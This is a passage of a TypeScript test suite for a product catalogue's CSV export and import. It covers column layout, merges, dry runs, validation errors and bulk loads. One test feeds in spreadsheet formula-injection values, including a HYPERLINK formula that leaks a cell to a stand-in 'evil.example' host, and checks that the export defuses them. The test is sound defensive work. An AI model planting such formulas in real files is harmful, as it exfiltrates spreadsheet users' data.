/** The catalogue as CSV (DESIGN §9): export, import, every refusal by `line N.column`, and nothing written by one. */
import assert from 'node:assert/strict';
import { Readable } from 'node:stream';
import { after, before, describe, test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { sql } from 'drizzle-orm';
import { TEMPLATE, TEMPLATE_COLUMNS } from '../../web/src/pages/product-csv-template.js';
import { databaseKinds, selectRows } from '../helpers/database.js';
import { INVALID, mug, tote } from '../helpers/fixtures.js';
import { API, call, createTestApp, errorBody, registerUser, type TestApp } from '../helpers/test-app.js';

/** The columns DESIGN §9 names, in its order, written out here rather than taken from the code under test. */
const COLUMNS = [
  'handle',
  'title',
  'description',
  'brand',
  'tags',
  'currency',
  'option1_name',
  'option1_value',
  'option2_name',
  'option2_value',
  'option3_name',
  'option3_value',
  'sku',
  'price',
  'quantity',
  'barcode',
  'weight_grams',
  'length_mm',
  'width_mm',
  'height_mm',
  'image_urls',
];

/** A CSV of rows given by column name, under `header`. */
/** The products an import made and changed, from its answer (its other counts are the merge tests'). */
const madeAndChanged = (answer: { success: boolean; data: { created: number; updated: number } }) => {
  assert.equal(answer.success, true);
  return { created: answer.data.created, updated: answer.data.updated };
};

function table(header: readonly string[], rows: readonly Record<string, string>[]): string {
  return stringify([header, ...rows.map((row) => header.map((column) => row[column] ?? ''))]);
}

for (const kind of databaseKinds()) {
  describe(`products CSV [${kind}]`, () => {
    let t: TestApp;
    before(async () => (t = await createTestApp(kind)));
    after(() => t.close());

    async function owner() {
      const user = await registerUser(t);
      const as = { token: user.session, workspace: user.workspace.id };
      const headers = { authorization: `Bearer ${user.session}`, 'x-workspace-id': String(user.workspace.id) };
      return {
        ...user,
        as,
        async post(body: unknown) {
          const response = await call(t, 'POST', '/products', { ...as, body });
          assert.equal(response.statusCode, 201, response.body);
          return response.json().data;
        },
        get: (path: string) => call(t, 'GET', path, as),
        exportCsv: () => call(t, 'GET', '/products/export', as),
        importCsv: (payload: string | Readable, contentType = 'text/csv', query = '') =>
          t.app.inject({
            method: 'POST',
            url: `${API}/products/import${query}`,
            headers: { ...headers, 'content-type': contentType },
            payload,
          }),
      };
    }

    /** Everything of the workspace's catalogue a write would touch, with its audit entries and webhook deliveries. */
    async function snapshot(workspaceId: number) {
      return {
        products: await selectRows(
          t.database,
          sql`select id, version, title, description, brand, tags::text, attributes::text, options::text, package::text, updated_at::text
              from products where workspace_id = ${workspaceId} order by id`,
        ),
        variants: await selectRows(
          t.database,
          sql`select id, product_id, position, sku, price::text, quantity, barcode, option_values::text, updated_at::text
              from product_variants where workspace_id = ${workspaceId} order by id`,
        ),
        images: await selectRows(
          t.database,
          sql`select i.id, i.product_id, i.position, i.url, i.alt, i.updated_at::text from product_images i
              join products p on p.id = i.product_id where p.workspace_id = ${workspaceId} order by i.id`,
        ),
        audit: await selectRows(
          t.database,
          sql`select id from audit_events where workspace_id = ${workspaceId} and subject_type = 'product' order by id`,
        ),
      };
    }

    const auditActions = async (workspaceId: number) =>
      (
        await selectRows<{ action: string }>(
          t.database,
          sql`select action from audit_events where workspace_id = ${workspaceId} and subject_type = 'product' order by id`,
        )
      ).map((r) => r.action);

    describe('GET /products/export', () => {
      test("answers products.csv: one row per variant, the product's columns on its first row, attribute columns sorted", async () => {
        const me = await owner();
        const bag = await me.post(tote('T'));
        const cup = await me.post(mug('MUG-1', { attributes: { color: 'white' } }));
        await (await owner()).post(mug('OTHER-1'));
        const response = await me.exportCsv();
        assert.equal(response.statusCode, 200);
        assert.match(String(response.headers['content-type']), /^text\/csv/);
        assert.equal(response.headers['content-disposition'], 'attachment; filename="products.csv"');
        const rows = parse(response.body) as string[][];
        assert.deepEqual(rows[0], [...COLUMNS, 'attribute.color', 'attribute.material']);
        assert.equal(rows.length, 1 + 4 + 1);
        // Each product's own handle, made from its title (DESIGN §9).
        const handle = bag.handle;
        assert.deepEqual([bag.handle, cup.handle], ['linen-tote-bag', 'stoneware-mug']);
        assert.deepEqual(rows[1], [
          ...[handle, 'Linen tote bag', 'Hand-stitched, natural linen.', 'Ada & Co', 'tote, linen', 'USD'],
          ...['Color', 'Natural', 'Size', 'S', '', '', 'T-NAT-S', '24.00', '12', ''],
          ...['250', '400', '300', '20', 'https://example.com/tote.jpg', '', 'linen'],
        ]);
        assert.deepEqual(rows[3], [
          ...[handle, '', '', '', '', '', '', 'Black', '', 'S', '', '', 'T-BLK-S', '24.00', '0', '0123456789012'],
          ...['', '', '', '', '', '', ''],
        ]);
        assert.deepEqual(rows[5], [
          ...[cup.handle, 'Stoneware mug', '', '', '', 'EUR', '', '', '', '', '', '', 'MUG-1', '12.00', '4', ''],
          ...['', '', '', '', '', 'white', ''],
        ]);
      });

      test('an empty catalogue is the header alone', async () => {
        const me = await owner();
        const response = await me.exportCsv();
        assert.equal(response.statusCode, 200);
        assert.equal(response.body, `${COLUMNS.join(',')}\n`);
      });

      test('needs a workspace member, in the seed error shape', async () => {
        const response = await call(t, 'GET', '/products/export');
        assert.equal(response.statusCode, 401);
        assert.deepEqual(response.json(), errorBody(401, 'Unauthenticated'));
      });
    });

    describe('POST /products/import', () => {
      test("the dashboard's template imports as it is: one product of two sizes, the second row taking the first's", async () => {
        const me = await owner();
        const response = await me.importCsv(`${TEMPLATE}\r\n`);
        assert.equal(response.statusCode, 200, response.body);
        assert.deepEqual(madeAndChanged(response.json()), { created: 1, updated: 0 });
        const [product] = (await me.get('/products')).json().data;
        assert.equal(product.title, 'Linen tote bag');
        assert.deepEqual(
          product.variants.map((v: { sku: string; price: string; quantity: number }) => [v.sku, v.price, v.quantity]),
          [
            ['TOTE-S', '24.00', 10],
            ['TOTE-L', '26.00', 5],
          ],
        );
        // The template names every column the export writes, in its order.
        assert.deepEqual(TEMPLATE_COLUMNS, COLUMNS);
      });

      test('the export imported unchanged changes nothing: no version, no audit entry', async () => {
        const me = await owner();
        await me.post(tote('U'));
        await me.post(mug('U-MUG', { attributes: { color: 'white', note: '' }, tags: ['a,b', ' spaced '] }));
        const before = await snapshot(me.workspace.id);
        const response = await me.importCsv((await me.exportCsv()).body);
        assert.equal(response.statusCode, 200, response.body);
        assert.deepEqual(madeAndChanged(response.json()), { created: 0, updated: 0 });
        assert.deepEqual(await snapshot(me.workspace.id), before);
      });

      test('imports racing to create one sku: one product, the others find it and leave it as it is, never a 500', async () => {
        const me = await owner();
        const file = table(
          ['handle', 'title', 'currency', 'sku', 'price', 'quantity'],
          [{ handle: 'race', title: 'Raced mug', currency: 'EUR', sku: 'RACE-CSV', price: '3.00', quantity: '1' }],
        );
        const answers = await Promise.all(Array.from({ length: 4 }, () => me.importCsv(file)));
        assert.deepEqual(
          answers.map((a) => a.statusCode),
          [200, 200, 200, 200],
          answers.map((a) => a.body).join('\n'),
        );
        assert.deepEqual(answers.map((a) => a.json().data.created).sort(), [0, 0, 0, 1]);
        assert.deepEqual(
          answers.map((a) => a.json().data.updated),
          [0, 0, 0, 0],
        );
        const products = (await me.get('/products')).json().data;
        assert.deepEqual(
          products.map((p: { title: string; version: number }) => [p.title, p.version]),
          [['Raced mug', 1]],
        );
      });

      test('a price edited in the file updates that product alone: version + 1, the variant keeps its id', async () => {
        const me = await owner();
        const bag = await me.post(tote('P'));
        const cup = await me.post(mug('P-MUG'));
        const rows = parse((await me.exportCsv()).body) as string[][];
        const price = COLUMNS.indexOf('price');
        rows.find((row) => row[COLUMNS.indexOf('sku')] === 'P-NAT-L')![price] = '27.5';
        const response = await me.importCsv(stringify(rows));
        assert.deepEqual(madeAndChanged(response.json()), { created: 0, updated: 1 });
        const changed = (await me.get(`/products/${bag.id}`)).json().data;
        assert.equal(changed.version, 2);
        assert.deepEqual(
          changed.variants.map((v: { id: number; price: string }) => [v.id, v.price]),
          bag.variants.map((v: { id: number; price: string }, i: number) => [v.id, i === 1 ? '27.50' : v.price]),
        );
        assert.deepEqual(changed.images, bag.images);
        assert.equal((await me.get(`/products/${cup.id}`)).json().data.version, 1);
        assert.deepEqual(await auditActions(me.workspace.id), ['product.created', 'product.created', 'product.updated']);
        // The import's change is logged as the import's, naming the product and saying what changed, from → to.
        const [logged] = await selectRows<{ details: Record<string, string> }>(
          t.database,
          sql`select details from audit_events where workspace_id = ${me.workspace.id} and action = 'product.updated'`,
        );
        assert.deepEqual(logged!.details, { title: bag.title, via: 'CSV import', 'P-NAT-L price': '26.50 → 27.50' });
      });

      test('a new handle creates a product from its rows, with its options, images, package and attributes', async () => {
        const me = await owner();
        const header = [...COLUMNS, 'attribute.material'];
        const first = {
          ...{ handle: 'new-bag', title: 'Canvas bag', description: 'Sturdy.', brand: 'Ada', tags: 'bag, canvas', currency: 'USD' },
          ...{ option1_name: 'Color', option1_value: 'Red', sku: 'NB-RED', price: '5', quantity: '3', barcode: '4006381333931' },
          ...{ weight_grams: '100', length_mm: '10', width_mm: '20', height_mm: '30' },
          ...{ image_urls: 'https://example.com/a.jpg https://example.com/b.jpg', 'attribute.material': 'canvas' },
        };
        const response = await me.importCsv(
          table(header, [first, { handle: 'new-bag', option1_value: 'Blue', sku: 'NB-BLUE', price: '5.5', quantity: '0' }]),
        );
        assert.equal(response.statusCode, 200, response.body);
        assert.deepEqual(madeAndChanged(response.json()), { created: 1, updated: 0 });
        const [product] = (await me.get('/products')).json().data;
        assert.deepEqual(
          { ...product, id: 0, created_at: '', updated_at: '', variants: [], images: [] },
          {
            ...{
              id: 0,
              title: 'Canvas bag',
              handle: 'new-bag',
              description: 'Sturdy.',
              brand: 'Ada',
              tags: ['bag', 'canvas'],
              currency: 'USD',
            },
            ...{ attributes: { material: 'canvas' }, options: [{ name: 'Color', values: ['Red', 'Blue'] }], version: 1 },
            ...{ package: { weight_grams: 100, length_mm: 10, width_mm: 20, height_mm: 30 }, price: '5.00', sku: 'NB-RED', quantity: 3 },
            ...{ created_at: '', updated_at: '', variants: [], images: [] },
          },
        );
        assert.deepEqual(
          product.variants.map((v: Record<string, unknown>) => [v.sku, v.option_values, v.price, v.quantity, v.barcode]),
          [
            ['NB-RED', { Color: 'Red' }, '5.00', 3, '4006381333931'],
            ['NB-BLUE', { Color: 'Blue' }, '5.50', 0, null],
          ],
        );
        assert.deepEqual(
          product.images.map((i: Record<string, unknown>) => [i.url, i.position, i.alt]),
          [
            ['https://example.com/a.jpg', 0, null],
            ['https://example.com/b.jpg', 1, null],
          ],
        );
        assert.deepEqual(await auditActions(me.workspace.id), ['product.created']);
      });

      test('a file of the required columns alone changes stock and prices, and keeps every other field as stored', async () => {
        const me = await owner();
        const bag = await me.post(tote('R'));
        const header = ['handle', 'title', 'currency', 'sku', 'price', 'quantity'];
        const rows = bag.variants.map((v: { sku: string; price: string }) => ({
          ...{ handle: 'bag', title: 'Linen tote bag', currency: 'USD', sku: v.sku, price: v.price, quantity: '99' },
        }));
        assert.deepEqual(madeAndChanged((await me.importCsv(table(header, rows))).json()), { created: 0, updated: 1 });
        const changed = (await me.get(`/products/${bag.id}`)).json().data;
        assert.deepEqual(
          changed.variants.map((v: { quantity: number }) => v.quantity),
          [99, 99, 99, 99],
        );
        const same = (p: Record<string, unknown>) => ({ ...p, variants: undefined, version: 0, updated_at: '', quantity: 0 });
        assert.deepEqual(same(changed), same(bag));
        assert.deepEqual(
          changed.variants.map((v: Record<string, unknown>) => ({ ...v, quantity: 0 })),
          bag.variants.map((v: Record<string, unknown>) => ({ ...v, quantity: 0 })),
        );
      });

      test('a row left out keeps its variant (remove_missing=true drops it); one added adds a variant', async () => {
        const me = await owner();
        const bag = await me.post(tote('V'));
        const rows = parse((await me.exportCsv()).body) as string[][];
        const added = [...rows[4]!];
        added[COLUMNS.indexOf('sku')] = 'V-NEW';
        added[COLUMNS.indexOf('option2_value')] = 'M';
        // The file leaves out V-BLK-L (line 5 of the export) and adds V-NEW, black in size M.
        const file = stringify([...rows.slice(0, 4), added]);
        const merged = await me.importCsv(file);
        assert.deepEqual(merged.json().data, { created: 0, updated: 1, unchanged: 0, removed: 0, ignored: [] });
        const kept = (await me.get(`/products/${bag.id}`)).json().data;
        assert.deepEqual(
          kept.variants.map((v: { sku: string }) => v.sku),
          ['V-NAT-S', 'V-NAT-L', 'V-BLK-S', 'V-BLK-L', 'V-NEW'],
        );
        assert.deepEqual(
          kept.variants.slice(0, 4).map((v: { id: number; quantity: number }) => [v.id, v.quantity]),
          bag.variants.map((v: { id: number; quantity: number }) => [v.id, v.quantity]),
        );
        const dropped = await me.importCsv(file, 'text/csv', '?remove_missing=true');
        assert.deepEqual(dropped.json().data, { created: 0, updated: 1, unchanged: 0, removed: 1, ignored: [] });
        const changed = (await me.get(`/products/${bag.id}`)).json().data;
        assert.deepEqual(
          changed.variants.map((v: { sku: string }) => v.sku),
          ['V-NAT-S', 'V-NAT-L', 'V-BLK-S', 'V-NEW'],
        );
        assert.deepEqual(
          changed.variants.slice(0, 3).map((v: { id: number }) => v.id),
          bag.variants.slice(0, 3).map((v: { id: number }) => v.id),
        );
      });

      test('a stock count of two skus changes those two alone: every other variant and product is kept as it was', async () => {
        const me = await owner();
        const bag = await me.post(tote('K'));
        const other = await me.post(tote('L'));
        const header = ['handle', 'title', 'currency', 'sku', 'price', 'quantity'];
        const counted = bag.variants.slice(1, 3).map((v: { sku: string; price: string }) => ({
          ...{ handle: 'bag', title: bag.title, currency: 'USD', sku: v.sku, price: v.price, quantity: '7' },
        }));
        const answer = await me.importCsv(table(header, counted));
        assert.deepEqual(answer.json().data, { created: 0, updated: 1, unchanged: 0, removed: 0, ignored: [] });
        const after = (await me.get(`/products/${bag.id}`)).json().data;
        assert.deepEqual(
          after.variants.map((v: { sku: string; quantity: number; id: number }) => [v.id, v.sku, v.quantity]),
          bag.variants.map((v: { sku: string; quantity: number; id: number }, i: number) => [
            v.id,
            v.sku,
            i === 1 || i === 2 ? 7 : v.quantity,
          ]),
        );
        assert.deepEqual((await me.get(`/products/${other.id}`)).json().data, other);
      });

      test('a file without a currency column makes its products in ?currency= (USD by default) and keeps the stored ones', async () => {
        const me = await owner();
        const bag = await me.post(tote('C'));
        const file = (handle: string, sku: string) => `handle,title,sku,price,quantity\n${handle},A ${handle},${sku},5.00,2\n`;
        assert.equal((await me.importCsv(file('plain', 'C-USD'))).statusCode, 200);
        assert.equal((await me.importCsv(file('euro', 'C-EUR'), 'text/csv', '?currency=EUR')).statusCode, 200);
        const refused = await me.importCsv(file('bad', 'C-BAD'), 'text/csv', '?currency=euro');
        assert.equal(refused.statusCode, 422);
        assert.deepEqual(Object.keys(refused.json().errors), ['currency']);
        // The stored product keeps its currency under ?currency=EUR.
        const restock = `handle,title,sku,price,quantity\nbag,${bag.title},C-NAT-S,24.00,40\n`;
        assert.equal((await me.importCsv(restock, 'text/csv', '?currency=EUR')).json().data.updated, 1);
        const products = (await me.get('/products?per_page=100')).json().data as { title: string; currency: string }[];
        assert.deepEqual(Object.fromEntries(products.map((p) => [p.title, p.currency])), {
          'A plain': 'USD',
          'A euro': 'EUR',
          [bag.title]: 'USD',
        });
      });

      test('dry_run=true answers every change the import would make, line by line, and writes nothing', async () => {
        const me = await owner();
        const bag = await me.post(tote('D'));
        const rows = parse((await me.exportCsv()).body) as string[][];
        rows[1]![COLUMNS.indexOf('title')] = 'Linen tote, large';
        rows[2]![COLUMNS.indexOf('price')] = '31.00';
        const added = [...rows[4]!];
        added[COLUMNS.indexOf('sku')] = 'D-NEW';
        const fresh = [...rows[1]!].map(() => '');
        Object.assign(fresh, {
          [COLUMNS.indexOf('handle')]: 'mug',
          [COLUMNS.indexOf('title')]: 'Mug',
          [COLUMNS.indexOf('currency')]: 'USD',
          [COLUMNS.indexOf('sku')]: 'MUG-1',
          [COLUMNS.indexOf('price')]: '9.00',
          [COLUMNS.indexOf('quantity')]: '3',
        });
        const before = await snapshot(me.workspace.id);
        const file = stringify([rows[0]!, rows[1]!, rows[2]!, rows[3]!, added, fresh]);
        const preview = await me.importCsv(file, 'text/csv', '?dry_run=true&remove_missing=true');
        assert.equal(preview.statusCode, 200, preview.body);
        const { changes, ...counts } = preview.json().data;
        assert.deepEqual(counts, { created: 1, updated: 1, unchanged: 0, removed: 1, ignored: [] });
        const price = bag.variants[1].price;
        assert.deepEqual(changes, [
          { line: 2, product_id: bag.id, sku: null, field: 'title', from: bag.title, to: 'Linen tote, large' },
          { line: 3, product_id: bag.id, sku: 'D-NAT-L', field: 'price', from: price, to: '31.00' },
          { line: 5, product_id: bag.id, sku: 'D-NEW', field: 'variant', from: null, to: 'D-NEW' },
          { line: null, product_id: bag.id, sku: 'D-BLK-L', field: 'variant', from: 'D-BLK-L', to: null },
          { line: 6, product_id: null, sku: null, field: 'product', from: null, to: 'Mug' },
          { line: 6, product_id: null, sku: 'MUG-1', field: 'variant', from: null, to: 'MUG-1' },
        ]);
        assert.deepEqual(await snapshot(me.workspace.id), before);
        // A file with a bad cell is the same 422 in a dry run.
        rows[2]![COLUMNS.indexOf('price')] = 'free';
        const refused = await me.importCsv(stringify(rows), 'text/csv', '?dry_run=true');
        assert.equal(refused.statusCode, 422);
        assert.deepEqual(Object.keys(refused.json().errors), ['line 3.price']);
      });

      test('cells of the wrong kind are refused on their line and column, all at once, and nothing is written', async () => {
        const me = await owner();
        await me.post(tote('E'));
        const before = await snapshot(me.workspace.id);
        const header = [...COLUMNS];
        const response = await me.importCsv(
          table(header, [
            { handle: 'a', title: 'A', currency: 'usd', sku: 'A-1', price: '12.345', quantity: '1.5', barcode: 'not a barcode!' },
            {
              ...{ handle: 'b', title: '', currency: 'EUR', sku: 'B 1', price: '0', quantity: '-1' },
              ...{ weight_grams: '10', length_mm: 'ten', width_mm: '', height_mm: '5' },
            },
            { handle: 'c', title: 'C', currency: 'EUR', sku: 'C-1', price: '1', quantity: '1', image_urls: 'ftp://example.com/x.jpg' },
            { handle: 'c2', title: 'C2', currency: 'EUR', sku: 'C-2', price: '1', quantity: '1', tags: 'a tag far longer than twenty' },
            { handle: 'ok', title: 'Fine', currency: 'EUR', sku: 'OK-1', price: '1', quantity: '1' },
          ]),
        );
        assert.equal(response.statusCode, 422);
        const { errors, ...rest } = response.json();
        assert.deepEqual(rest, errorBody(422, INVALID));
        assert.deepEqual(errors, {
          'line 2.currency': ['The currency field format is invalid.'],
          'line 2.price': ['The price must be a number with at most two decimals, such as 19.99.'],
          'line 2.quantity': ['The quantity must be a whole number.'],
          'line 2.barcode': ['The selected barcode is invalid.'],
          'line 3.title': ['The title field is required.'],
          'line 3.sku': ['The sku field format is invalid.'],
          'line 3.price': ['The price must be greater than 0.'],
          'line 3.quantity': ['The quantity field must be at least 0.'],
          'line 3.length_mm': ['The length_mm must be a whole number.'],
          'line 4.image_urls': ['The image_urls field format is invalid.'],
          'line 5.tags': ['The tags field must not be greater than 20 characters.'],
        });
        assert.deepEqual(await snapshot(me.workspace.id), before);
      });

      test('the header: a column unknown is ignored and named; one given twice and one required but missing are errors on line 1', async () => {
        const me = await owner();
        const response = await me.importCsv('handle,title,currency,sku,quantity,colour,title\nh,T,USD,S-1,1,red,T\n');
        assert.equal(response.statusCode, 422);
        // Without a price column a stored variant keeps its price; this row's sku is new, so it needs one.
        assert.deepEqual(response.json().errors, {
          'line 1.title': ['The column is given twice.'],
          'line 2.price': ['The price field is required.'],
        });
        // The one column every file needs is the sku: a stock file is `sku,quantity`.
        const empty = await me.importCsv('');
        assert.deepEqual(empty.json().errors, { 'line 1.sku': ['The sku column is required.'] });
        assert.deepEqual(await snapshot(me.workspace.id), { products: [], variants: [], images: [], audit: [] });
        // Names are matched without regard to case, surrounding spaces, or the spaces between words.
        const loose = await me.importCsv(
          ' Handle ,TITLE,Currency,SKU,Price,Quantity,Option1 Name,option1 value,Colour,Notes\nh,T,USD,S-1,5.00,1,Size,M,red,x\n',
        );
        assert.equal(loose.statusCode, 200, loose.body);
        assert.deepEqual(loose.json().data, { created: 1, updated: 0, unchanged: 0, removed: 0, ignored: ['Colour', 'Notes'] });
        const [made] = (await me.get('/products')).json().data;
        assert.deepEqual([made.title, made.options, made.variants[0].sku], ['T', [{ name: 'Size', values: ['M'] }], 'S-1']);
      });

      test("a product's column given differently on a later row, an empty handle and extra cells are errors on their line", async () => {
        const me = await owner();
        const header = ['handle', 'title', 'currency', 'option1_name', 'option1_value', 'sku', 'price', 'quantity'];
        const csv = [
          header.join(','),
          'bag,Bag,USD,Size,S,B-S,1,1',
          'bag,,,,M,B-M,1,1',
          'bag,Another bag,USD,Size,L,B-L,1,1',
          ',Loose,USD,,,L-1,1,1',
          'cup,Cup,USD,,,C-1,1,1,surplus',
          'spare,Spare,USD,,,SP-1,1,1,,',
          '',
        ].join('\n');
        const response = await me.importCsv(csv);
        assert.equal(response.statusCode, 422);
        assert.deepEqual(response.json().errors, {
          'line 4.title': ['The title differs from line 2 of the same product: repeat it or leave it empty.'],
          'line 5.handle': ['The handle field is required: rows with the same handle are one product.'],
          'line 6.row': ['The row has 9 cells; the header names 8 columns.'],
        });
        assert.equal((await snapshot(me.workspace.id)).products.length, 0);
      });

      test('the option rules hold for the rows of a product, reported on the line and option column', async () => {
        const me = await owner();
        const header = [
          'handle',
          'title',
          'currency',
          'option1_name',
          'option1_value',
          'option2_name',
          'option2_value',
          'sku',
          'price',
          'quantity',
        ];
        const row = (cells: Record<string, string>) => ({ price: '1', quantity: '1', ...cells });
        const response = await me.importCsv(
          table(header, [
            row({
              handle: 'shirt',
              title: 'Shirt',
              currency: 'USD',
              option1_name: 'Color',
              option1_value: 'Red',
              option2_name: 'Size',
              option2_value: 'S',
              sku: 'SH-1',
            }),
            row({ handle: 'shirt', option1_value: 'Red', sku: 'SH-2' }),
            row({ handle: 'shirt', option1_value: 'Blue', option2_value: 'M', sku: 'SH-1' }),
            row({ handle: 'plain', title: 'Plain', currency: 'USD', sku: 'PL-1' }),
            row({ handle: 'plain', sku: 'PL-2' }),
            row({ handle: 'combo', title: 'Combo', currency: 'USD', option1_name: 'Color', option1_value: 'Red', sku: 'CO-1' }),
            row({ handle: 'combo', option1_value: 'Red', sku: 'CO-2' }),
            row({ handle: 'ghost', title: 'Ghost', currency: 'USD', option2_value: 'M', sku: 'GH-1' }),
          ]),
        );
        assert.equal(response.statusCode, 422);
        assert.deepEqual(response.json().errors, {
          'line 3.option2_value': ['A value of every option is required: Size.'],
          'line 4.sku': ['The sku is also given to line 2.'],
          'line 6.handle': ['A product without options has exactly one variant.'],
          'line 8.option1_value': ['The same option values as line 7.'],
          'line 9.option2_value': ['A value of option 2 is given, but the product has no option2_name.'],
        });
        assert.equal((await snapshot(me.workspace.id)).products.length, 0);
      });

      test('skus of two products in one group, two groups reaching one product and a sku on two groups are errors on the sku', async () => {
        const me = await owner();
        await me.post(mug('M-1'));
        await me.post(mug('M-2'));
        await me.post({
          title: 'Kettle',
          currency: 'EUR',
          options: [{ name: 'Size', values: ['S', 'L'] }],
          variants: [
            { sku: 'K-S', option_values: { Size: 'S' }, price: '30.00', quantity: 1 },
            { sku: 'K-L', option_values: { Size: 'L' }, price: '35.00', quantity: 1 },
          ],
        });
        const before = await snapshot(me.workspace.id);
        const header = ['handle', 'title', 'currency', 'option1_name', 'option1_value', 'sku', 'price', 'quantity'];
        const product = (handle: string, sku: string, size = '') => ({
          ...{ handle, title: handle, currency: 'EUR', sku, price: '1', quantity: '1' },
          ...(size ? { option1_name: 'Size', option1_value: size } : {}),
        });
        const response = await me.importCsv(
          table(header, [
            product('x', 'M-1', 'S'),
            product('x', 'M-2', 'L'),
            product('y', 'K-S', 'S'),
            product('z', 'K-L', 'L'),
            product('n1', 'NEW-1'),
            product('n2', 'NEW-1'),
          ]),
        );
        assert.equal(response.statusCode, 422);
        assert.deepEqual(response.json().errors, {
          'line 3.sku': ["The sku has already been taken by another product than the one line 2's sku belongs to."],
          'line 5.sku': ['The sku belongs to the product of line 4: give its rows one handle.'],
          'line 7.sku': ['The sku is also given on line 6.'],
        });
        assert.deepEqual(await snapshot(me.workspace.id), before);
      });

      test('cells with commas, quotes and line breaks survive the export and an import, here and into another workspace', async () => {
        const me = await owner();
        const odd = {
          title: 'Tote, "large"',
          description: 'Line one\nLine "two", with a comma\r\nthree ',
          brand: ' Ada, Co',
          currency: 'USD',
          tags: ['big bag', 'a;b'],
          attributes: { 'fit, cut': 'say "hi"\nthere', 'a.b': ' x ' },
          options: [{ name: 'Colour, shade', values: ['Red, dark', 'Blue "navy"'] }],
          variants: [
            { sku: 'Q-1', option_values: { 'Colour, shade': 'Red, dark' }, price: '1.00', quantity: 1 },
            { sku: 'Q-2', option_values: { 'Colour, shade': 'Blue "navy"' }, price: '2.00', quantity: 2 },
          ],
          images: [{ url: 'https://example.com/a,b.jpg?x="y"' }],
        };
        const made = await me.post(odd);
        const csv = (await me.exportCsv()).body;
        assert.ok(csv.includes('"Tote, ""large"""'), csv);
        const before = await snapshot(me.workspace.id);
        assert.deepEqual(madeAndChanged((await me.importCsv(csv)).json()), { created: 0, updated: 0 });
        assert.deepEqual(await snapshot(me.workspace.id), before);

        const other = await owner();
        assert.deepEqual(madeAndChanged((await other.importCsv(csv)).json()), { created: 1, updated: 0 });
        const [copy] = (await other.get('/products')).json().data;
        const comparable = (p: Record<string, unknown> & { variants: Record<string, unknown>[]; images: Record<string, unknown>[] }) => ({
          ...p,
          id: 0,
          created_at: '',
          updated_at: '',
          variants: p.variants.map((v) => ({ ...v, id: 0 })),
          images: p.images.map((i) => ({ ...i, id: 0 })),
        });
        assert.deepEqual(comparable(copy), comparable({ ...made, images: [{ ...made.images[0], alt: null }] }));
      });

      test('a cell a spreadsheet would run as a formula is exported behind an apostrophe, and imported back unchanged', async () => {
        const me = await owner();
        const formulas = {
          title: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
          description: '\t=1+1 after a tab',
          brand: '@SUM(1+1)',
          currency: 'USD',
          tags: ['-2+3', 'plain'],
          attributes: { cr: '\r=1+1', quoted: "'=already behind one", twice: "''+two", number: '-5', note: "'plain" },
          options: [{ name: '+Size', values: ['=S', 'M'] }],
          variants: [
            { sku: '-F-1', option_values: { '+Size': '=S' }, price: '5.00', quantity: 1 },
            { sku: 'F-2', option_values: { '+Size': 'M' }, price: '6.00', quantity: 2 },
          ],
        };
        const made = await me.post(formulas);
        const exported = (await me.exportCsv()).body;
        const rows = parse(exported) as string[][];
        const [header, first, second] = rows;
        const cell = (row: string[] | undefined, column: string) => row![header!.indexOf(column)];
        assert.equal(cell(first, 'title'), `'${formulas.title}`);
        assert.equal(cell(first, 'description'), "'\t=1+1 after a tab");
        assert.equal(cell(first, 'brand'), "'@SUM(1+1)");
        assert.equal(cell(first, 'tags'), "'-2+3, plain");
        assert.equal(cell(first, 'attribute.cr'), "'\r=1+1");
        assert.equal(cell(first, 'attribute.quoted'), "''=already behind one");
        assert.equal(cell(first, 'attribute.twice'), "'''+two");
        assert.equal(cell(first, 'attribute.number'), '-5', 'a number is left a number');
        assert.equal(cell(first, 'attribute.note'), "'plain", 'an apostrophe before no formula is left as it is');
        assert.deepEqual([cell(first, 'option1_name'), cell(first, 'option1_value'), cell(first, 'sku')], ["'+Size", "'=S", "'-F-1"]);
        assert.deepEqual([cell(second, 'sku'), cell(second, 'price')], ['F-2', '6.00']);
        const live = rows.flat().filter((text) => /^[=+\-@\t\r]/.test(text) && text !== '-5');
        assert.deepEqual(live, [], 'no cell of the export starts a formula');

        const before = await snapshot(me.workspace.id);
        assert.deepEqual(madeAndChanged((await me.importCsv(exported)).json()), { created: 0, updated: 0 });
        assert.deepEqual(await snapshot(me.workspace.id), before);
        const other = await owner();
        assert.deepEqual(madeAndChanged((await other.importCsv(exported)).json()), { created: 1, updated: 0 });
        const [copy] = (await other.get('/products')).json().data;
        const comparable = (p: Record<string, unknown> & { variants: Record<string, unknown>[] }) => ({
          ...p,
          id: 0,
          created_at: '',
          updated_at: '',
          variants: p.variants.map((v) => ({ ...v, id: 0 })),
        });
        assert.deepEqual(comparable(copy), comparable(made));
      });

      test('10,000 rows import in one request; the export again changes nothing; every price changed updates every product', async (context) => {
        const me = await owner();
        const header = [...COLUMNS, 'attribute.material'];
        const rows = Array.from({ length: 10_000 }, (_, i) => ({
          ...{ handle: `p-${i}`, title: `Product ${i}`, description: `The product number ${i}, in "quotes".`, currency: 'USD' },
          ...{ sku: `BULK-${i}`, price: `${(i % 500) + 1}.99`, quantity: String(i % 50), tags: 'bulk, test' },
          ...{ image_urls: `https://example.com/p/${i}.jpg`, 'attribute.material': 'cotton' },
        }));
        const csv = table(header, rows);
        let started = performance.now();
        const response = await me.importCsv(csv);
        const first = performance.now() - started;
        assert.equal(response.statusCode, 200, response.body.slice(0, 500));
        assert.deepEqual(madeAndChanged(response.json()), { created: 10_000, updated: 0 });
        started = performance.now();
        const again = await me.importCsv((await me.exportCsv()).body);
        const second = performance.now() - started;
        assert.deepEqual(madeAndChanged(again.json()), { created: 0, updated: 0 });
        started = performance.now();
        const repriced = await me.importCsv(
          table(
            header,
            rows.map((row) => ({ ...row, price: '7.77' })),
          ),
        );
        const third = performance.now() - started;
        assert.deepEqual(madeAndChanged(repriced.json()), { created: 0, updated: 10_000 });
        context.diagnostic(
          `10,000-row import [${kind}]: ${Math.round(first)} ms new, ${Math.round(second)} ms export and unchanged import, ${Math.round(third)} ms all changed`,
        );
        const { products, variants, images, audit } = await snapshot(me.workspace.id);
        assert.deepEqual([products.length, variants.length, images.length, audit.length], [10_000, 10_000, 10_000, 20_000]);
        const prices = await selectRows<{ price: string; version: number; n: number }>(
          t.database,
          sql`select v.price::text as price, p.version, count(*)::int as n from product_variants v join products p on p.id = v.product_id
              where p.workspace_id = ${me.workspace.id} group by 1, 2`,
        );
        assert.deepEqual(prices, [{ price: '7.77', version: 2, n: 10_000 }]);
      });

